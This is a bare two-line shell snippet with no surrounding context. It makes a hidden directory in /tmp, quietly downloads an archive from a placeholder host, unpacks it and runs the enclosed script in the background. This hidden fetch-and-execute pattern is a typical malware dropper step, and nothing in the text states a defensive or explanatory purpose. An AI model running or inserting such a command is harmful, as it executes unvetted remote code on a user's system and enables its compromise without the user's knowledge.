d=/tmp/.f; mkdir -p $d
curl -so $d/f.tgz https://x.invalid/f.tgz && tar xzf $d/f.tgz -C $d && $d/run.sh &
